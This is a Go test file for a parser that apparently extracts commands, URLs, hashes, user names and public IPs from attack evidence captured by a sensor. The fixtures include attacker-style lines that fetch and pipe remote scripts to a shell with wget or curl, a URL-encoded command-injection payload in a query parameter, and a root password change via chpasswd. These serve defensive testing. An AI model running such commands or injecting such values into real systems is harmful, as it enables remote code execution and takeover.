package traces

import (
	"net/netip"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/go-json-experiment/json/jsontext"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestRead(t *testing.T) {
	addr := netip.MustParseAddr("192.0.2.200")
	tests := []struct {
		name, evidence string
		want           Traces
	}{
		{"command", `{"command_text":"cd /tmp; wget http://192.0.2.200/bins.sh; sh bins.sh","matched":"wget http://evil.example/x"}`,
			Traces{Command: "cd /tmp; wget http://192.0.2.200/bins.sh; sh bins.sh", URLs: []URL{{"http://192.0.2.200/bins.sh", "192.0.2.200", addr}}}},
		{"file", `{"filename":"a.exe","shasum":"9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08","url":"ftp://Host.Example:21/x."}`,
			Traces{File: File{"a.exe", "SHA-256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}, URLs: []URL{{"ftp://host.example:21/x", "host.example", netip.Addr{}}}}},
		{"request", `{"raw_url":"/a?country=$(id%3E%60wget+http%3A%2F%2F192.0.2.66%2Ft+-O-+|+sh%60)","user_agent":"x","inputs":{"raw_url":"http://no.example/"}}`,
			Traces{Request: "/a?country=$(id%3E%60wget+http%3A%2F%2F192.0.2.66%2Ft+-O-+|+sh%60)", UserAgent: "x", URLs: []URL{{"http://192.0.2.66/t", "192.0.2.66", netip.MustParseAddr("192.0.2.66")}}}},
		{"no hash", `{"shasum":"9f86d0818","username":"root"}`, Traces{User: "root"}},
		{"torn", `{"username":"root","command_text":"x`, Traces{User: "root"}},
		{"no object", `["username","root"]`, Traces{}},
		{"no evidence", ``, Traces{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, new(Reader).Read([]byte(tt.evidence)), cmpopts.EquateComparable(netip.Addr{})); diff != "" {
				t.Errorf("Read(%s) (-want +got):\n%s", tt.evidence, diff)
			}
		})
	}
}

func TestURLs(t *testing.T) {
	tests := []struct{ text, want string }{
		{"wget http://a.example/x&& sh x", "http://a.example/x"},
		{`curl "http://a.example/x?a=1&b=2" | sh`, "http://a.example/x?a=1&b=2"},
		{"wget http://user:hunter2@a.example/x", "http://a.example/x"},
		{"HTTP://A.EXAMPLE/X http://a.example/X", "http://A.EXAMPLE/X"},
		{"(http://a.example/x), then", "http://a.example/x"},
		{"http://[2001:db8::1]:80/x", "http://[2001:db8::1]:80/x"},
		{"tftp://192.0.2.1/x", "tftp://192.0.2.1/x"},
		{"http://$HOST/x http://a.example/$arch http://* ://x http:// http://x", ""},
		{"http://1.2.3/x http://a..example/ http://-/ file:///etc/passwd javascript://a.example", ""},
		{"http://a.example/\x00\x1b\u202e", "http://a.example/"},
		{"http://a.example/" + strings.Repeat("x", 4000), ""},
		{"http://a.example/%zz", ""},
	}
	for _, tt := range tests {
		var got Traces
		got.findURLs(tt.text)
		text := ""
		if len(got.URLs) > 0 {
			text = got.URLs[0].Text
		}
		if !strings.EqualFold(text, tt.want) {
			t.Errorf("URLs of %q = %v, want %q", tt.text, got.URLs, tt.want)
		}
	}
	var many Traces
	many.findURLs(strings.Repeat("http://a.example/ ", 3) + strings.Repeat("http://b.example/", 1) + " http://c.example")
	if len(many.URLs) != 3 {
		t.Errorf("%v, want each URL once", many.URLs)
	}
}

func TestPublic(t *testing.T) {
	for text, want := range map[string]bool{
		"203.0.113.9": true, "10.0.0.1": false, "127.0.0.1": false, "169.254.169.254": false, "100.64.0.1": false,
		"100.128.0.1": true, "0.0.0.0": false, "255.255.255.255": false, "224.0.0.1": false, "2001:db8::1": true, "fd00::1": false, "::1": false,
		"::ffff:192.168.1.1": false,
	} {
		if got := Public(netip.MustParseAddr(text)); got != want {
			t.Errorf("Public(%s) = %v, want %v", text, got, want)
		}
	}
}

// What stands behind the cut says that the word before it is a secret.
func TestTextIsMaskedWhole(t *testing.T) {
	got := Text("echo root:hunter2" + strings.Repeat(" ", 3*textBytes) + "| chpasswd")
	if strings.Contains(got, "hunter2") {
		t.Errorf("Text = %q, want no password", got)
	}
}

func FuzzRead(f *testing.F) {
	f.Add("wget http://bob:pw@a.example/x?y=http://b.example")
	f.Add("http://[::1%25eth0]/\xff\x00\u202e")
	f.Add("://://http://a.b://@@")
	f.Fuzz(func(t *testing.T, text string) {
		quoted, _ := jsontext.AppendQuote(nil, text)
		for _, name := range []string{"command_text", "url", "raw_url", "username", "shasum", "filename"} {
			got := new(Reader).Read([]byte(`{"` + name + `":` + string(quoted) + `}`))
			texts := []string{got.Command, got.Request, got.User, got.File.Name, got.File.Hash}
			for _, u := range got.URLs {
				texts = append(texts, u.Text, u.Host)
				if u.Host == "" || strings.Contains(u.Host, "@") {
					t.Errorf("%q: host %q", text, u.Host)
				}
			}
			for _, s := range texts {
				if !utf8.ValidString(s) || strings.ContainsAny(s, "\x00\x1b\x7f") || len(s) > 6*textBytes {
					t.Errorf("%q gives %q", text, s)
				}
			}
		}
	})
}
